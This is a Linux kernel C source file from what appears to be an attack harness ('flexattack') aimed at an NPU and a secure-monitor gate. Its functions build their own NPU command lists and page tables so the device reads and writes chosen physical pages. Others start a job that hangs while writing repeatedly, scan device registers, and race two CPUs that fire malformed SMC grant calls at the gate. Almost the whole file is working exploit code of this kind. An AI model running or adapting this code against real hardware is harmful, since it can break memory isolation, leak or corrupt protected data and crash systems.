// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * The NPU, programmed past its driver: jobs, lists and tables of the attacker's own making.
 *
 * `npu-run FORMAT A B C LIST TABLE DIRECTORY`: one row of A by eight of B, so that C is the first eight
 * values of A. Each of these lies in the physical page that is named, or, for 0, in one of ours. "fault"
 * -14 when the registers were out of reach; "raw" INT_RAW, or -1 when the job does not end; "mmu"
 * MMU_STATUS; "value" what our own C has then, "mark" what our own A has.
 *
 * `npu-hang`: starts a job of many seconds, which writes to our page at "ipa" over and over.
 *
 * `npu-registers`: how many of them are "nonzero", but for those that only say which device it is.
 *
 * `npu-storm GRANTS BYTES SECURE MS`: two CPUs grant (our page, with BYTES of code in it, and other
 * places, as the SECURE one), ask and POLL until so many grants were accepted, at most so long; "calls",
 * and how many were "granted".
 */
#include <linux/completion.h>
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/random.h>
#include <linux/slab.h>
#include <linux/uaccess.h>

#include "flexattack.h"

enum { A, B, C, LIST, TABLE, DIRECTORY, PARTS };
enum { ALLOWED = 7, BLOCK_SCALE = 2, VALUES = 8 };

/* Where a part is for the NPU, in pages; all of its addresses there are one and the same page. */
static const u16 places[] = { [A] = 16, [B] = 528, [C] = 784, [LIST] = 1 };
static const u16 spans[] = { [A] = 512, [B] = 256, [C] = 128, [LIST] = 1 };

struct job {
	u32 format, m, n, k, row, runs; /* row: bytes of one of A and B */
};

static void *ours[PARTS]; /* never given back: the NPU may be at them */
static u64 window;
static void __iomem *registers;

/* ---- registers, which may be out of reach ---- */

static bool get(u32 at, u32 *value)
{
	const u32 *from = (const u32 __force *)(registers + at);

	__get_kernel_nofault(value, from, u32, fault);
	return true;
fault:
	return false;
}

static bool set(u32 at, u32 value)
{
	u32 *to = (u32 __force *)(registers + at);

	__put_kernel_nofault(to, &value, u32, fault);
	return true;
fault:
	return false;
}

static int prepare(void)
{
	struct arm_smccc_res layout;

	for (int i = 0; i < PARTS && !registers; i++)
		if (!ours[i] && !(ours[i] = (void *)get_zeroed_page(GFP_KERNEL | GFP_DMA32)))
			return -ENOMEM;
	arm_smccc_smc(FLEX_SMC_BASE + FLEX_CALL_LAYOUT, 0, 0, 0, 0, 0, 0, 0, &layout);
	window = layout.a3 + FLEX_NPU_WINDOW_OFFSET;
	registers = registers ?: ioremap(window, FLEX_NPU_WINDOW_BYTES);
	return registers ? 0 : -ENOMEM;
}

/* ---- jobs ---- */

static u64 *command(u64 *at, u64 target, u64 reg, u64 value)
{
	*at = target << 48 | value << 16 | reg;
	return at + 1;
}

static u32 write_list(const struct job *job)
{
	const u32 cna[][2] = {
		{ FLEX_NPU_OPERAND_FORMAT, job->format },	{ FLEX_NPU_OPERAND_M, job->m },
		{ FLEX_NPU_OPERAND_N, job->n },			{ FLEX_NPU_OPERAND_K, job->k },
		{ FLEX_NPU_OPERAND_A, places[A] << PAGE_SHIFT }, { FLEX_NPU_OPERAND_A_STRIDE, job->row },
		{ FLEX_NPU_OPERAND_B, places[B] << PAGE_SHIFT }, { FLEX_NPU_OPERAND_B_STRIDE, job->row },
	};
	u64 *at = ours[LIST];

	for (int i = 0; i < ARRAY_SIZE(cna); i++)
		at = command(at, FLEX_NPU_TARGET_CNA, cna[i][0], cna[i][1]);
	at = command(at, FLEX_NPU_TARGET_DPU, FLEX_NPU_OPERAND_C, places[C] << PAGE_SHIFT);
	at = command(at, FLEX_NPU_TARGET_DPU, FLEX_NPU_OPERAND_C_STRIDE, sizeof(u32) * job->n);
	for (u32 i = 0; i < job->runs; i++)
		at = command(at, FLEX_NPU_TARGET_RUN, 0, 1);
	return at - (u64 *)ours[LIST];
}

static void write_tables(const u32 *where)
{
	memset(ours[TABLE], 0, PAGE_SIZE);
	for (int part = A; part <= LIST; part++)
		for (int i = 0; i < spans[part]; i++)
			((u32 *)ours[TABLE])[places[part] + i] = where[part] | ALLOWED;
	memset(ours[DIRECTORY], 0, PAGE_SIZE);
	*(u32 *)ours[DIRECTORY] = where[TABLE] | 1;
}

static bool start(u32 commands, u32 directory)
{
	const u32 writes[][2] = {
		{ FLEX_NPU_REGISTER_INT_CLEAR, ~0u },
		{ FLEX_NPU_REGISTER_MMU_DTE_ADDR, directory },
		{ FLEX_NPU_REGISTER_MMU_COMMAND, FLEX_NPU_MMU_COMMAND_ENABLE },
		{ FLEX_NPU_REGISTER_DMA_BASE, 0 },
		{ FLEX_NPU_REGISTER_DATA_ADDR, places[LIST] << PAGE_SHIFT },
		{ FLEX_NPU_REGISTER_DATA_AMOUNT, commands },
	};

	for (int i = 0; i < ARRAY_SIZE(writes); i++)
		if (!set(writes[i][0], writes[i][1]))
			return false;
	mb();
	return set(FLEX_NPU_REGISTER_OP_EN, 1);
}

/* Starts a job whose parts lie in these pages; 0: in ours. */
static bool run(const struct job *job, u32 *where)
{
	for (int part = 0; part < PARTS; part++)
		where[part] = where[part] ?: virt_to_phys(ours[part]);
	write_tables(where);
	return start(write_list(job), where[DIRECTORY]);
}

static u8 *values(void *row, u32 format)
{
	if ((format & 0xff) != FLEX_NPU_FORMAT_Q8_0)
		return row;
	*(u16 *)row = 0x3c00; /* a scale of one */
	return row + BLOCK_SCALE;
}

/* A is 1, 2, … 8, and B picks one of them for each column. */
static u64 write_operands(const struct job *job)
{
	u64 mark = 0;

	for (int part = A; part <= C; part++)
		memset(ours[part], 0, PAGE_SIZE);
	for (u32 i = 0; i < VALUES; i++) {
		values(ours[A], job->format)[i] = i + 1;
		values(ours[B] + i * job->row, job->format)[i] = 1;
		mark |= (u64)(i + 1) << 8 * i;
	}
	return mark;
}

static u64 result(void)
{
	const u32 *c = ours[C];
	u64 value = 0;

	for (int i = 0; i < VALUES; i++)
		value |= (u64)(c[i] & 0xff) << 8 * i;
	return value;
}

void npu_run(struct attack *attack)
{
	const struct job job = { word(attack, 1), 1, VALUES, 32, 64, 1 };
	u32 running = 1, raw = 0, mmu = 0, where[PARTS];
	bool reached;

	attack->error = prepare();
	if (attack->error)
		return;
	for (int part = 0; part < PARTS; part++)
		where[part] = word(attack, 2 + part);
	tell(attack, "mark", write_operands(&job));
	reached = run(&job, where);
	for (int i = 0; reached && running && i < 4000; i++) {
		usleep_range(500, 1000);
		reached = get(FLEX_NPU_REGISTER_OP_EN, &running);
	}
	reached = reached && get(FLEX_NPU_REGISTER_INT_RAW, &raw) && get(FLEX_NPU_REGISTER_MMU_STATUS, &mmu);
	tell(attack, "fault", reached ? 0 : -EFAULT);
	tell(attack, "raw", running ? -1 : (long long)raw);
	tell(attack, "mmu", mmu);
	tell(attack, "value", result());
}

void npu_hang(struct attack *attack)
{
	const struct job job = { FLEX_NPU_FORMAT_INT8, 512, 256, 4096, 4096, 500 };
	u32 where[PARTS] = { 0 };

	attack->error = prepare();
	if (attack->error)
		return;
	memset(ours[A], 1, PAGE_SIZE);
	memset(ours[B], 1, PAGE_SIZE);
	tell(attack, "fault", run(&job, where) ? 0 : -EFAULT);
	tell(attack, "ipa", where[C]);
}

void npu_registers(struct attack *attack)
{
	u32 nonzero = 0, value = 0;
	bool reached = true;

	attack->error = prepare();
	for (u32 at = FLEX_NPU_WINDOW_KEPT; !attack->error && reached && at < FLEX_NPU_WINDOW_BYTES; at += 4) {
		reached = get(at, &value);
		if (at == FLEX_NPU_REGISTER_MMU_STATUS)
			value &= ~FLEX_NPU_MMU_STATUS_IDLE;
		nonzero += value != 0;
	}
	tell(attack, "fault", reached ? 0 : -EFAULT);
	tell(attack, "nonzero", nonzero);
}

/* ---- two CPUs at the gate ---- */

static struct {
	u64 end, grants, bytes, secure, hidden;
	atomic_t calls, granted;
	struct completion ended;
} storm;

static u64 any(const u64 *of, u32 count)
{
	return of[get_random_u32() % count];
}

static int grant_anything(void)
{
	const u64 own = page_to_phys(victim());
	const u64 codes[] = { own, own + 8, storm.secure, storm.secure - PAGE_SIZE, storm.hidden, window, 0, ~0ULL };
	const u64 sizes[] = { storm.bytes, storm.bytes - 4, 0, 1, PAGE_SIZE, 2 * PAGE_SIZE + 1, ~0ULL };

	return smc(FLEX_CALL_NPU_GRANT, any(codes, ARRAY_SIZE(codes)), any(sizes, ARRAY_SIZE(sizes)));
}

static void call_gate(void)
{
	int status = -1;

	switch (get_random_u32() % 8) {
	case 0:
		status = smc(FLEX_CALL_NPU_GRANT, page_to_phys(victim()), storm.bytes);
		break;
	case 1:
		status = grant_anything();
		break;
	case 2:
		smc(FLEX_CALL_NPU_ASK, get_random_u32(), 0);
		break;
	case 3:
		smc(FLEX_CALL_NPU_STATE, 0, 0);
		break;
	default:
		smc(FLEX_CALL_POLL, 0, 0);
	}
	atomic_inc(&storm.calls);
	atomic_add(!status, &storm.granted);
}

static int storm_gate(void *unused)
{
	while (atomic_read(&storm.granted) < storm.grants && ktime_get_ns() < storm.end) {
		call_gate();
		cond_resched();
	}
	return 0;
}

static int storm_beside(void *unused)
{
	storm_gate(NULL);
	complete(&storm.ended);
	return 0;
}

void npu_storm(struct attack *attack)
{
	struct task_struct *task;

	attack->error = prepare();
	if (attack->error)
		return;
	memset(&storm, 0, sizeof(storm));
	storm.grants = word(attack, 1);
	storm.bytes = word(attack, 2);
	storm.secure = word(attack, 3);
	storm.end = ktime_get_ns() + word(attack, 4) * NSEC_PER_MSEC;
	storm.hidden = window - FLEX_NPU_WINDOW_OFFSET;
	init_completion(&storm.ended);
	task = kthread_run(storm_beside, NULL, "flexattack-2");
	if (IS_ERR(task)) {
		attack->error = PTR_ERR(task);
		return;
	}
	storm_gate(NULL);
	wait_for_completion(&storm.ended);
	tell(attack, "calls", atomic_read(&storm.calls));
	tell(attack, "granted", atomic_read(&storm.granted));
}
